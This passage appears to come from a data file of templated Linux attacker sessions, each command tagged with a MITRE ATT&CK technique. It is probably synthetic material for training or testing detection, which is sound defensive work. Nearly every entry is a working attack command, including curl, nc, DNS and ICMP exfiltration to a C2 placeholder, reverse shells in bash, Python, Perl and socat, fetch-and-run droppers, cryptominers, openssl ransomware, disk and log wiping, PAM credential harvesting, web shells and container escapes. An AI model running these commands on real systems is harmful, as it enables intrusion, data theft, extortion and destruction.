T1685,T1685 :: pkill -f aegis; pkill -f AliYunDun
"""),
# --- 7. Collection, staging and exfiltration ---------------------------------------------------------------------
("coll-home-archive-scp", "human", """
T1083 :: ls -la /home/*/
T1074.001 :: mkdir /tmp/.{r}
T1119 :: cp -r /home/*/Documents /tmp/.{r}/
T1560.001 :: tar czf /tmp/.{r}.tgz /tmp/.{r}
T1048 :: scp /tmp/.{r}.tgz {user}@{c2}:/srv/drop/
T1070.004 :: rm -rf /tmp/.{r} /tmp/.{r}.tgz
"""),
("coll-db-dump-curl", "human", """
T1005 :: mysqldump --all-databases -u root -p'{pw}' > /dev/shm/all.sql
T1560.001 :: gzip -9 /dev/shm/all.sql
T1567.002 :: curl -T /dev/shm/all.sql.gz https://transfer.{dom}/all.sql.gz
T1070.004 :: rm -f /dev/shm/all.sql.gz
"""),
("coll-pgdump-split", "human", """
T1005 :: sudo -u postgres pg_dump {db} > /tmp/.{db}.sql
T1560.001 :: zip -e -P {pw} /tmp/.d.zip /tmp/.{db}.sql
T1030 :: split -b 10M /tmp/.d.zip /tmp/.d.part.
T1048.003 :: for f in /tmp/.d.part.*; do curl -s -F "file=@$f" http://{c2}/u; done
T1070.004 :: rm -f /tmp/.d.* /tmp/.{db}.sql
"""),
("coll-nc-exfil", "human", """
T1560.001 :: tar cf - /etc {home} 2>/dev/null | gzip > /tmp/.e.tgz
T1048.003 :: nc {c2} {port} < /tmp/.e.tgz
T1070.004 :: rm /tmp/.e.tgz
"""),
("coll-rclone-cloud", "human", """
T1105,T1105 :: cd /tmp && curl -sO http://{c2}/rclone
T1567.002 :: chmod +x rclone
T1567.002 :: ./rclone config create r mega user {r}@{dom} pass {pw}
T1567.002 :: ./rclone copy {web} r:/{r} --transfers 8 -q
"""),
("coll-dns-exfil", "human", """
T1560.001 :: tar czf /tmp/.x.tgz {home}/.ssh
T1048.003 :: base64 -w0 /tmp/.x.tgz | fold -w 60 | while read l; do dig +short $l.{dom}; done
"""),
("coll-git-repos", "human", """
T1083,T1083 :: find / -name ".git" -type d 2>/dev/null | head -n 20
T1213 :: cd /srv/git/{project}
T1213 :: git log --oneline | head
T1560.001 :: tar czf /tmp/.{project}.tgz /srv/git/{project}
T1041 :: curl -s -F "f=@/tmp/.{project}.tgz" http://{c2}:{port}/up
"""),
("coll-mail-spool", "human", """
T1114.001 :: ls -la /var/mail /var/spool/mail
T1114.001 :: cat /var/mail/{user}
T1560.001 :: tar czf /tmp/.m.tgz /var/mail
T1041 :: curl -s --data-binary @/tmp/.m.tgz http://{c2}/m
"""),
("coll-scp-pull-back", "human", """
T1074.001 :: mkdir -p /dev/shm/.c
T1119,T1119 :: find {home} -name "*.pdf" -o -name "*.docx" | xargs -I{} cp {} /dev/shm/.c/
T1560.001 :: tar czf /dev/shm/c.tgz -C /dev/shm .c
T1048.002 :: scp -P {port} /dev/shm/c.tgz x@{c2}:
"""),
("coll-python-http-exfil", "human", """
T1560.001 :: zip -r /tmp/.w.zip {web}
T1048.003 :: cd /tmp && python3 -m http.server {port}
"""),
# --- 8. Lateral movement ------------------------------------------------------------------------------------------
("lat-ssh-known-hosts", "human", """
T1018 :: cat ~/.ssh/known_hosts
T1018 :: cat ~/.ssh/config
T1021.004 :: ssh -i ~/.ssh/id_rsa {user}@{lan} "hostname; id"
T1570,T1570 :: scp {dir}/{bin} {user}@{lan}:/tmp/ && ssh {user}@{lan} "chmod +x /tmp/{bin}; /tmp/{bin}"
"""),
("lat-ssh-loop-spread", "human", """
T1018 :: grep -oE "([0-9]{1,3}\\.){3}[0-9]{1,3}" ~/.ssh/known_hosts ~/.bash_history | sort -u > /tmp/.h
T1021.004,T1021.004,T1021.004 :: for h in $(cat /tmp/.h); do ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no $h "curl -s http://{c2}/{script} | sh" & done
"""),
("lat-ssh-agent-hijack", "human", """
T1057 :: ls -la /tmp/ssh-*
T1563.001 :: SSH_AUTH_SOCK=/tmp/ssh-{r}/agent.{pid} ssh-add -l
T1563.001 :: SSH_AUTH_SOCK=/tmp/ssh-{r}/agent.{pid} ssh root@{lan}
"""),
("lat-socat-pivot", "human", """
T1105,T1105 :: cd /tmp; wget -q http://{c2}/socat
T1090.001,T1090.001 :: chmod +x socat; ./socat TCP-LISTEN:{port},fork TCP:{lan}:22 &
T1049 :: ss -ltnp | grep {port}
"""),
("lat-ssh-tunnel", "human", """
T1572 :: ssh -f -N -R {port}:127.0.0.1:22 x@{c2}
T1572 :: ssh -D 1080 -N -f {user}@{lan}
T1090 :: proxychains nmap -sT -Pn -p 445,3389 {lan2}
"""),
("lat-ansible-abuse", "human", """
T1083 :: cat /etc/ansible/hosts
T1072 :: ansible all -m shell -a "id"
T1072 :: ansible all -m shell -a "curl -s http://{c2}/{script} | sh" -b
"""),
("lat-salt-abuse", "human", """
T1072 :: salt-key -L
T1072 :: salt '*' cmd.run 'id'
T1072 :: salt '*' cmd.run 'wget -qO- http://{c2}/{script} | sh'
"""),
# --- 9. Command and control ---------------------------------------------------------------------------------------
("c2-bash-revshell", "human", """
T1059.004 :: bash -i >& /dev/tcp/{c2}/{port} 0>&1
"""),
("c2-nc-mkfifo", "human", """
T1095 :: rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {c2} {port} >/tmp/f
"""),
("c2-python-revshell", "human", """
T1059.006 :: python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("{c2}",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
"""),
("c2-frp-tunnel", "human", """
T1105,T1105 :: cd {dir}/{hid} && wget -q http://{c2}/frpc.tar.gz
T1140 :: tar xzf frpc.tar.gz
T1572 :: echo -e "[common]\\nserver_addr = {c2}\\nserver_port = 7000\\n[ssh]\\ntype = tcp\\nlocal_port = 22\\nremote_port = {port}" > frpc.ini
T1572 :: nohup ./frpc -c frpc.ini >/dev/null 2>&1 &
"""),
("c2-gsocket", "human", """
T1219 :: bash -c "$(curl -fsSL http://{c2}/gs.sh)"
T1219 :: gs-netcat -s {r2} -l -i
"""),
("c2-ngrok-ssh", "human", """
T1105,T1105 :: cd /tmp && wget -q http://{c2}/ngrok.tgz
T1140 :: tar xzf ngrok.tgz
T1572 :: ./ngrok tcp 22 --authtoken {r2} --log=stdout > /dev/null &
"""),
("c2-socat-tty", "human", """
T1095 :: socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{c2}:{port}
"""),
("c2-http-beacon-loop", "human", """
T1071.001 :: while true; do curl -s http://{c2}/t?h=$(hostname) | sh; sleep 60; done &
"""),
("c2-icmp-tunnel", "human", """
T1105,T1105 :: cd /tmp; wget -q http://{c2}/ptunnel
T1095,T1095 :: chmod +x ptunnel; ./ptunnel -p {c2} -lp 8000 -da 127.0.0.1 -dp 22 &
"""),
# --- 10. Impact --------------------------------------------------------------------------------------------------
("imp-ransom-openssl", "human", """
T1083 :: find {web} -type f | wc -l
T1486 :: find {web} -type f -exec openssl enc -aes-256-cbc -salt -pass pass:{r2} -in {} -out {}.locked \\; -exec rm {} \\;
T1491.001 :: echo "Your files are encrypted. Contact {r}@{dom}" > {web}/README_DECRYPT.txt
"""),
("imp-db-wipe-ransom", "human", """
T1005 :: mysql -u root -p'{pw}' -e "show databases"
T1485 :: mysql -u root -p'{pw}' -e "DROP DATABASE {db};"
T1485 :: mysql -u root -p'{pw}' -e "CREATE DATABASE README_TO_RECOVER; USE README_TO_RECOVER; CREATE TABLE r(t TEXT); INSERT INTO r VALUES('send 0.01 BTC');"
"""),
("imp-disk-wipe", "human", """
T1082 :: lsblk
T1561.001 :: dd if=/dev/zero of=/dev/sda bs=1M count=100
T1485 :: rm -rf --no-preserve-root /
"""),
("imp-service-stop-backups", "human", """
T1489 :: systemctl stop {svc}
T1489,T1489 :: systemctl stop mysql; systemctl stop postgresql
T1490 :: rm -rf /var/backups/*
T1490 :: rm -rf /backup/*
"""),
("imp-esxi-like-encrypt", "human", """
T1489,T1489 :: esxcli vm process list | grep -i world
T1489 :: esxcli vm process kill --type=force --world-id={pid}
T1486 :: for f in /vmfs/volumes/*/*/*.vmdk; do ./enc "$f"; done
T1491.001 :: echo "All your VMs are encrypted" > /etc/motd
"""),
("imp-shutdown-reboot", "human", """
T1529 :: shutdown -r now
"""),
("imp-defacement", "human", """
T1491.002 :: cd {web}
T1491.002 :: cp index.html .index.bak
T1491.002 :: echo "<h1>hacked by {r}</h1>" > index.html
"""),
("imp-fork-dos", "human", """
T1499 :: :(){ :|:& };:
"""),
# --- 11. Full kill chains, hands-on-keyboard (recon → staging → execution → persistence → privesc → creds → collection → exfil → clean-up)
("chain-miner-operator", "human", """
T1033 :: id
T1082 :: uname -a
T1082 :: cat /proc/cpuinfo | grep name | wc -l
T1082 :: nproc
T1057 :: ps aux | grep -v grep | grep -iE 'xmr|miner|kdev' | wc -l
T1105 :: cd {dir}
?0.3 T1105 :: wget http://{c2}/{bin}
T1105 :: curl -fsSL http://{c2}/{bin} -o {bin}
T1105 :: ls -la {bin}
T1496.001,T1496.001 :: chmod +x {bin}; nohup ./{bin} -o {pool}:{poolport} -u {wallet} -p {host} --cpu-max-threads-hint=75 >/dev/null 2>&1 &
T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "@reboot {dir}/{bin} -o {pool}:{poolport} -u {wallet}") | crontab -
T1098.004 :: echo "{key}" >> ~/.ssh/authorized_keys
T1057 :: top -b -n 1 | head -n 15
T1070.003 :: history -c
"""),
("chain-webapp-rce-to-exfil", "web", """
T1033 :: id
T1083 :: pwd
T1083 :: ls -la
T1552.001 :: cat ../config/database.yml
T1082 :: uname -a
T1016 :: ip a
T1105 :: cd /tmp
T1105 :: wget http://{c2}/{bin}
T1059.004,T1059.004 :: chmod +x {bin}; ./{bin} {c2} {port} &
T1548.001 :: find / -perm -u=s -type f 2>/dev/null
T1068 :: ./{bin} --exploit pkexec
T1033 :: id
T1003.008 :: cat /etc/shadow
T1005 :: mysqldump -u {dbuser} -p'{pw}' {db} > /tmp/.{r}.sql
T1560.001 :: tar czf /tmp/.{r}.tgz /tmp/.{r}.sql
T1041 :: curl -F "f=@/tmp/.{r}.tgz" http://{c2}:{port}/u
T1070.004 :: rm -f /tmp/.{r}.sql /tmp/.{r}.tgz {bin}
"""),
("chain-ssh-brute-foothold", "human", """
T1033 :: w
T1082 :: uname -a; cat /etc/*release
T1082 :: cat /proc/cpuinfo | grep "model name" | head -n 1
T1082 :: free -h
T1049 :: netstat -tnp | grep ESTAB
T1098,T1098 :: echo "root:{pw2}" | chpasswd
T1098.004,T1098.004 :: mkdir -p /root/.ssh && echo "{key}" > /root/.ssh/authorized_keys
T1105,T1105,T1105 :: cd {dir}; wget -q http://{c2}/{script}; sh {script}
T1070.004 :: rm -f {script}
T1685.006 :: echo > /var/log/auth.log
T1070.003 :: history -c
"""),
("chain-apt-style-quiet", "human", """
T1690 :: unset HISTFILE HISTSAVE
T1033 :: id; w
T1082 :: hostnamectl
T1016 :: ip -br a
T1049 :: ss -antp
T1518.001 :: ps -eo comm | grep -iE 'falcon|wazuh|auditd|osquery'
T1087.001 :: getent passwd | awk -F: '$3 >= 1000 {print $1}'
T1552.004 :: ls -la /home/*/.ssh/
T1564.001 :: mkdir -p /usr/share/{hid}
T1105 :: curl -so /usr/share/{hid}/«udevd|dbus-launch|rpcbind» https://{dom}/u/{r}
T1036.005 :: chmod 755 /usr/share/{hid}/«udevd|dbus-launch|rpcbind»
T1543.002 :: systemctl enable --now «udev-sync|dbus-helper|rpc-sync».service
T1070.006 :: touch -r /usr/bin/ssh /usr/share/{hid}
T1018 :: cat /etc/hosts
T1021.004 :: ssh -o StrictHostKeyChecking=no {lan} 'uname -a'
"""),
("chain-cloud-key-thief", "human", """
T1033 :: whoami
T1082 :: cat /etc/os-release
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/info
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
T1552.001 :: cat ~/.aws/credentials ~/.aws/config
T1552.001 :: env | grep AWS
T1580 :: aws sts get-caller-identity
T1580 :: aws ec2 describe-instances --query "Reservations[].Instances[].PrivateIpAddress"
T1619 :: aws s3 ls
T1530 :: aws s3 sync s3://{project}-backups /tmp/.s3 --quiet
T1560.001 :: tar czf /tmp/.s3.tgz /tmp/.s3
T1567.002 :: curl -T /tmp/.s3.tgz https://share.{dom}/{r}
T1070.004 :: rm -rf /tmp/.s3 /tmp/.s3.tgz
"""),
("chain-k8s-pod-escape", "human", """
T1033 :: id
T1497.001 :: cat /proc/1/cgroup
T1613 :: env | grep KUBERNETES
T1552.007 :: cat /var/run/secrets/kubernetes.io/serviceaccount/token
T1105 :: curl -sLO http://{c2}/kubectl
T1613 :: chmod +x kubectl; ./kubectl auth can-i --list
T1613 :: ./kubectl get pods -A
T1610 :: ./kubectl run {r} --image=alpine --overrides='{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","-t","1","-m","-u","-i","-n","sh"],"stdin":true,"tty":true,"securityContext":{"privileged":true}}]}}' -it
T1611 :: nsenter -t 1 -m -u -i -n sh
T1033 :: id
T1552.001 :: cat /etc/kubernetes/admin.conf
"""),
("chain-ransom-linux-server", "human", """
T1033 :: id
T1082 :: uname -a
T1083 :: df -h
T1083 :: ls -la /srv /var/www /home
T1057 :: ps aux | grep -E 'mysql|postgres|mongo'
T1489 :: systemctl stop mysql
T1489 :: systemctl stop {svc}
T1490 :: rm -rf /var/backups/* /backup/*
T1105 :: cd /tmp; wget http://{c2}/{bin}
T1486,T1486 :: chmod +x {bin}; ./{bin} --path /srv --path /var/www --path /home --ext locked
T1491.001 :: echo "Your data is encrypted. Write to {r}@{dom}" > /root/README_LOCKED.txt
T1070.004 :: rm -f {bin}
T1070.003 :: history -c
"""),
("chain-iot-camera-bot", "bot", """
T1059.004 :: sh
T1082 :: cat /proc/cpuinfo
T1082 :: cat /proc/version
T1083 :: ls /mnt /tmp /var
T1105 :: cd /tmp || cd /var
T1105 :: /bin/busybox wget http://{c2}/{arch} -O /tmp/.{r} || /bin/busybox tftp -g -r {arch} -l /tmp/.{r} {c2}
T1059.004,T1059.004 :: chmod 777 /tmp/.{r}; /tmp/.{r} cam.{arch}
T1489 :: kill -9 $(pidof telnetd)
T1070.004 :: rm -rf /tmp/.{r}
"""),
("chain-insider-data-grab", "human", """
T1033 :: whoami
T1083 :: ls -la /srv/shares/
T1083 :: find /srv/shares/{project} -name "*.xlsx" -newer /etc/hostname
T1074.001 :: mkdir ~/.tmp{r}
T1119 :: cp -r /srv/shares/{project}/contracts ~/.tmp{r}/
T1560.001 :: zip -r -P {pw} ~/{doc}.zip ~/.tmp{r}
T1567.002 :: curl -T ~/{doc}.zip https://upload.{dom}/{doc}.zip
T1070.004 :: rm -rf ~/.tmp{r} ~/{doc}.zip
T1070.003 :: history -c
"""),
("chain-jenkins-compromise", "human", """
T1033 :: id
T1083 :: ls /var/lib/jenkins
T1552.001 :: cat /var/lib/jenkins/credentials.xml
T1552.001 :: cat /var/lib/jenkins/secrets/master.key
T1552.001 :: ls /var/lib/jenkins/secrets/
T1560.001 :: tar czf /tmp/.j.tgz /var/lib/jenkins/credentials.xml /var/lib/jenkins/secrets
T1041 :: curl -s -F "f=@/tmp/.j.tgz" http://{c2}:{port}/j
T1098.004 :: echo "{key}" >> /var/lib/jenkins/.ssh/authorized_keys
T1070.004 :: rm -f /tmp/.j.tgz
"""),
("chain-redis-unauth-root", "human", """
T1046 :: redis-cli -h {lan} ping
T1082 :: redis-cli -h {lan} info
T1098.004 :: (echo -e "\\n\\n"; cat ~/.ssh/id_rsa.pub; echo -e "\\n\\n") > /tmp/k.txt
T1098.004,T1098.004 :: cat /tmp/k.txt | redis-cli -h {lan} -x set k
T1098.004 :: redis-cli -h {lan} config set dir /root/.ssh
T1098.004 :: redis-cli -h {lan} config set dbfilename authorized_keys
T1098.004 :: redis-cli -h {lan} save
T1021.004 :: ssh root@{lan} id
"""),
("chain-tomcat-manager-deploy", "human", """
T1190 :: curl -s -u tomcat:tomcat http://{lan}:8080/manager/text/list
T1505.003 :: msfvenom -p java/jsp_shell_reverse_tcp LHOST={c2} LPORT={port} -f war -o {r}.war
T1505.003 :: curl -s -u tomcat:tomcat -T {r}.war "http://{lan}:8080/manager/text/deploy?path=/{r}"
T1059 :: curl -s http://{lan}:8080/{r}/
T1033 :: id
T1082 :: uname -a
"""),
("chain-log4shell-callback", "web", """
T1190 :: curl -s -H 'X-Api-Version: ${jndi:ldap://{c2}:1389/a}' http://{lan}:8080/
T1033 :: id
T1082 :: uname -a
T1105 :: wget -q http://{c2}/{bin} -O /tmp/{bin}
T1059.004,T1059.004 :: chmod +x /tmp/{bin}; /tmp/{bin} &
T1053.003,T1053.003,T1053.003 :: (crontab -l; echo "*/5 * * * * /tmp/{bin}") | crontab -
"""),
("chain-confluence-ognl-miner", "bot", """
T1033 :: whoami
T1082 :: uname -m
T1489 :: pkill -9 -f «kdevtmpfsi|kinsing|xmrig»
T1685 :: ufw disable
T1686 :: iptables -F
T1105,T1059.004 :: curl -fsSL http://{c2}/{script} | bash
T1496.001 :: {dir}/.{r}/{bin} -o {pool}:{poolport} -u {wallet} -B
"""),
("chain-pam-harvest-exfil", "human", """
T1033 :: id
T1082 :: cat /etc/os-release
T1556.003 :: cp /etc/pam.d/common-auth /var/tmp/.ca
T1556.003 :: echo "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.l" >> /etc/pam.d/common-auth
T1556.003 :: echo -e '#!/bin/sh\\necho "$PAM_USER:$(cat -)" >> /var/tmp/.pl' > /usr/local/bin/.l
T1556.003 :: chmod +x /usr/local/bin/.l
T1070.006 :: touch -r /etc/pam.d/common-password /etc/pam.d/common-auth
T1056 :: cat /var/tmp/.pl
T1041 :: curl -s --data-binary @/var/tmp/.pl http://{c2}/p
"""),
("chain-sudo-token-reuse", "human", """
T1033 :: id
T1548.003 :: sudo -n true
T1057 :: ps -ef | grep sudo
T1548.003 :: ls -la /var/run/sudo/ts/
T1548.003 :: sudo -i
T1033 :: id
T1136.001 :: useradd -M -s /bin/bash -G sudo {newuser}
T1098,T1098 :: echo "{newuser}:{pw}" | chpasswd
"""),
("chain-ssh-worm-step", "human", """
T1033 :: id
T1552.004 :: ls ~/.ssh/
T1018 :: cat ~/.ssh/known_hosts | cut -d' ' -f1 | sort -u
T1018 :: grep -E "^ssh " ~/.bash_history | sort -u
T1105 :: curl -s http://{c2}/{bin} -o /tmp/{bin}
T1570 :: scp -o StrictHostKeyChecking=no /tmp/{bin} {lan}:/tmp/
T1021.004 :: ssh -o StrictHostKeyChecking=no {lan} "chmod +x /tmp/{bin}; nohup /tmp/{bin} &"
T1021.004 :: ssh -o StrictHostKeyChecking=no {lan2} "hostname"
T1070.004 :: rm -f /tmp/{bin}
"""),
("chain-backup-server-pillage", "human", """
T1033 :: id
T1083 :: ls -lah /backup
T1083 :: du -sh /backup/*
T1005 :: tar tzf /backup/{db}-latest.tar.gz | head
T1074.001 :: cp /backup/{db}-latest.tar.gz /dev/shm/.{r}
T1030 :: split -b 50M /dev/shm/.{r} /dev/shm/.{r}.
T1048.003 :: for p in /dev/shm/.{r}.*; do curl -s -T $p ftp://{c2}/in/ --user x:{pw}; done
T1490 :: rm -rf /backup/*
T1070.004 :: rm -f /dev/shm/.{r}*
"""),
("chain-postgres-copy-program", "human", """
T1190 :: psql -h {lan} -U postgres -c "select version();"
T1059.004 :: psql -h {lan} -U postgres -c "CREATE TABLE cmd_out(t text); COPY cmd_out FROM PROGRAM 'id';"
T1059.004 :: psql -h {lan} -U postgres -c "SELECT * FROM cmd_out;"
T1105 :: psql -h {lan} -U postgres -c "COPY cmd_out FROM PROGRAM 'curl -s http://{c2}/{script} | sh';"
T1070 :: psql -h {lan} -U postgres -c "DROP TABLE cmd_out;"
"""),
("chain-wordpress-takeover", "web", """
T1083 :: ls {web}
T1552.001 :: grep -E "DB_(USER|PASSWORD|NAME)" {web}/wp-config.php
T1005 :: mysql -u {dbuser} -p'{pw}' {db} -e "select ID,user_login,user_email from wp_users;"
T1098 :: mysql -u {dbuser} -p'{pw}' {db} -e "update wp_users set user_pass=MD5('{pw2}') where ID=1;"
T1505.003 :: echo '<?php @eval($_POST["p"]); ?>' > {web}/wp-includes/«class-wp-cache|wp-tmp|load-styles»x.php
T1070.006 :: touch -r {web}/wp-includes/version.php {web}/wp-includes/*x.php
T1491.002 :: mysql -u {dbuser} -p'{pw}' {db} -e "update wp_options set option_value='http://{dom}' where option_name='siteurl';"
"""),
("chain-cpanel-mailer", "web", """
T1033 :: id
T1083 :: ls ~/public_html
T1105 :: cd ~/public_html/wp-content/uploads
T1105 :: wget -q http://{c2}/mailer.txt -O m.php
T1114.001 :: ls ~/mail/
T1005 :: cat ~/public_html/contacts.csv | wc -l
T1496 :: curl -s "http://127.0.0.1/wp-content/uploads/m.php?send=1"
T1070.004 :: rm -f m.php
"""),
("chain-gpu-farm-miner", "human", """
T1082 :: nvidia-smi
T1082 :: lspci | grep -i nvidia
T1105 :: cd /opt && mkdir .n && cd .n
T1105 :: wget -q http://{c2}/lolminer.tgz
T1140 :: tar xzf lolminer.tgz
T1496.001 :: nohup ./lolMiner --algo ETCHASH --pool {pool}:{poolport} --user {wallet}.{host} >/dev/null 2>&1 &
T1543.002 :: printf "[Service]\\nExecStart=/opt/.n/lolMiner --algo ETCHASH --pool {pool}:{poolport} --user {wallet}\\n[Install]\\nWantedBy=multi-user.target\\n" > /etc/systemd/system/nv-telemetry.service
T1543.002 :: systemctl enable nv-telemetry
T1685 :: systemctl stop nvidia-dcgm
"""),
("chain-proxyjacking", "human", """
T1082 :: uname -a
T1016 :: curl -s ifconfig.example
T1105 :: docker pull «proxyagent/peer|bandwidth/node»:latest
T1496.002 :: docker run -d --restart always --name {r} «proxyagent/peer|bandwidth/node»:latest --email {r}@{dom} --password {pw}
T1613 :: docker ps
T1070.003 :: history -c
"""),
("chain-rootkit-install", "human", """
T1082 :: uname -r
T1105 :: cd /tmp && wget -q http://{c2}/{r}.tgz
T1140 :: tar xzf {r}.tgz && cd {r}
T1014 :: make
T1014 :: insmod {r}.ko
T1014 :: kill -63 0
T1014 :: lsmod | grep {r}
T1070.004 :: cd / && rm -rf /tmp/{r} /tmp/{r}.tgz
"""),
("chain-mysql-udf-privesc", "human", """
T1005 :: mysql -u root -p'{pw}' -e "select @@plugin_dir;"
T1068 :: mysql -u root -p'{pw}' -e "select load_file('/tmp/raptor_udf2.so') into dumpfile '/usr/lib/mysql/plugin/raptor_udf2.so';"
T1068 :: mysql -u root -p'{pw}' -e "create function do_system returns integer soname 'raptor_udf2.so';"
T1068 :: mysql -u root -p'{pw}' -e "select do_system('cp /bin/bash /tmp/rb; chmod +s /tmp/rb');"
T1548.001 :: /tmp/rb -p
T1033 :: id
"""),
("chain-exfil-over-icmp-dns", "human", """
T1083 :: find / -name "*.sql" -size +1M 2>/dev/null
T1560.001 :: tar czf /tmp/.z.tgz /var/lib/{db}
T1132.001 :: xxd -p /tmp/.z.tgz > /tmp/.z.hex
T1048.003 :: for l in $(cat /tmp/.z.hex); do ping -c 1 -p $l {c2}; done
T1070.004 :: rm -f /tmp/.z.*
"""),
("chain-operator-typo-heavy", "human", """
T1033 :: whoam
T1033 :: whoami
T1082 :: unmae -a
T1082 :: uname -a
T1105 :: cd /tmp
T1105 :: wegt http://{c2}/{bin}
T1105 :: wget http://{c2}/{bin}
T1105 :: ls
T1059.004 :: chmod +x {bin}
T1059.004 :: ./{bin}
T1059.004 :: ./{bin} &
T1057 :: ps aux | grep {bin}
"""),
("chain-persistence-belt-and-braces", "human", """
T1033 :: id
T1105 :: cd {dir} && curl -s -O http://{c2}/{bin} && chmod +x {bin}
T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "*/15 * * * * {dir}/{bin}") | crontab -
T1037.004 :: echo "{dir}/{bin} &" >> /etc/rc.local
T1546.004 :: echo "{dir}/{bin} >/dev/null 2>&1 &" >> /etc/profile
T1098.004 :: echo "{key}" >> /root/.ssh/authorized_keys
T1222.002 :: chattr +i {dir}/{bin} /root/.ssh/authorized_keys
T1070.003 :: history -c
"""),
("chain-docker-socket-host-takeover", "human", """
T1033 :: id
T1613 :: ls -la /var/run/docker.sock
T1613 :: curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json
T1611 :: docker -H unix:///var/run/docker.sock run -it --privileged --pid=host -v /:/host alpine chroot /host bash
T1033 :: id
T1098.004 :: echo "{key}" >> /host/root/.ssh/authorized_keys
T1003.008 :: cat /etc/shadow
"""),
("chain-phpmyadmin-to-shell", "human", """
T1190 :: curl -s http://{lan}/phpmyadmin/ | grep -i version
T1505.003 :: mysql -h {lan} -u root -p'{pw}' -e "SELECT '<?php system(\\$_GET[c]); ?>' INTO OUTFILE '{web}/s.php';"
T1059.004 :: curl -s "http://{lan}/s.php?c=id"
T1059.004 :: curl -s "http://{lan}/s.php?c=uname%20-a"
T1105 :: curl -s "http://{lan}/s.php?c=wget%20http://{c2}/{bin}%20-O%20/tmp/{bin}"
"""),
("chain-git-secrets-hunt", "human", """
T1083 :: find / -name ".git" -type d -not -path "*/node_modules/*" 2>/dev/null
T1552.001 :: cd /srv/{project} && git log -p | grep -iE "password|secret|api_key" | head -n 30
T1552.001 :: cat /srv/{project}/.env.production
T1552.001 :: grep -r "BEGIN RSA PRIVATE KEY" /srv 2>/dev/null
T1560.001 :: tar czf /tmp/.g.tgz /srv/{project}/.env* /srv/{project}/config
T1041 :: curl -s -F "f=@/tmp/.g.tgz" http://{c2}:{port}/g
"""),
("chain-hidden-user-cron-cleanup", "human", """
T1087.001 :: cut -d: -f1 /etc/passwd
T1136.001 :: useradd -r -s /bin/bash -d /var/lib/.{newuser} -m {newuser}
T1098,T1098 :: echo '{newuser}:{pw}' | chpasswd
T1098 :: echo '{newuser} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/«90-cloud|README2|99-sys»
T1053.003 :: echo "0 * * * * root /var/lib/.{newuser}/.u" > /etc/cron.d/sysstat2
T1685.006 :: sed -i '/{newuser}/d' /var/log/auth.log
T1070.003,T1070.003 :: history -c; rm ~/.bash_history
"""),
("chain-dropper-retry-loop", "bot", """
T1082 :: uname -a
T1105 :: cd /tmp || cd /var/tmp || cd /dev/shm
T1105 :: wget http://{c2}/{bin}.{arch}
T1105 :: curl -O http://{c2}/{bin}.{arch}
T1105 :: wget http://{c2b}/{bin}.{arch}
T1059.004,T1059.004 :: chmod +x {bin}.{arch}; ./{bin}.{arch}
T1070.004 :: rm -f {bin}.{arch}
"""),
("chain-root-ssh-config-backdoor", "human", """
T1082 :: cat /etc/ssh/sshd_config | grep -v "#" | grep .
T1098 :: sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
T1098 :: sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config
T1098 :: echo "Port {port}" >> /etc/ssh/sshd_config
T1098 :: systemctl restart sshd
T1686 :: iptables -I INPUT -p tcp --dport {port} -j ACCEPT
"""),
("chain-sniff-and-spread", "human", """
T1016 :: ip a
T1040 :: timeout 120 tcpdump -i any -A port 21 or port 110 or port 143 2>/dev/null | grep -iE "user|pass" > /tmp/.c
T1040 :: cat /tmp/.c
T1021.004 :: sshpass -p '{pw}' ssh -o StrictHostKeyChecking=no {user}@{lan} id
T1570 :: sshpass -p '{pw}' scp {dir}/{bin} {user}@{lan}:/tmp/
"""),
("chain-suid-vim-backdoor", "human", """
T1548.001 :: find / -perm -4000 2>/dev/null | grep -vE "snap|proc"
T1548.001 :: /usr/bin/vim.basic -c ':py3 import os; os.execl("/bin/sh", "sh", "-pc", "reset; exec sh -p")'
T1033 :: id
T1548.001 :: cp /bin/bash /var/tmp/.bash; chmod 4755 /var/tmp/.bash
T1564.001 :: ls -la /var/tmp/.bash
"""),
("chain-web-defacer", "human", """
T1033 :: id
T1083 :: ls -la {web}
T1491.002 :: cp {web}/index.html /tmp/.idx
T1491.002 :: wget -q http://{c2}/index.html -O {web}/index.html
T1491.002 :: curl -s http://localhost/ | head
T1070.003 :: history -c
"""),
("chain-dos-bot-joiner", "bot", """
T1082 :: uname -a
T1105 :: cd /tmp; curl -sO http://{c2}/{bin}
T1059.004,T1059.004 :: chmod +x {bin}; ./{bin} -s {c2}:{port}
T1498 :: ./{bin} --flood udp {c2b} 443 120
"""),
("chain-cred-reuse-mysql-pivot", "human", """
T1552.003 :: grep -i "mysql -u" ~/.bash_history
T1552.001 :: cat /etc/mysql/debian.cnf
T1005 :: mysql --defaults-file=/etc/mysql/debian.cnf -e "select user,host,authentication_string from mysql.user;"
T1021.004 :: sshpass -p '{pw}' ssh {dbuser}@{lan} 'hostname'
T1005 :: mysql -h {lan} -u {dbuser} -p'{pw}' -e "show databases;"
"""),
("chain-pastebin-stager", "human", """
T1102 :: curl -s https://paste.{dom}/raw/{r} -o /tmp/.p
T1140 :: base64 -d /tmp/.p > /tmp/.p.sh
T1059.004 :: bash /tmp/.p.sh
T1070.004 :: rm -f /tmp/.p /tmp/.p.sh
"""),
("chain-perl-shell-and-cleanup", "human", """
T1059 :: perl -e 'use Socket;$i="{c2}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
T1033 :: id
T1082 :: uname -a
T1685.006 :: find /var/log -type f -exec sh -c '> {}' \\;
T1070.003 :: history -c
"""),
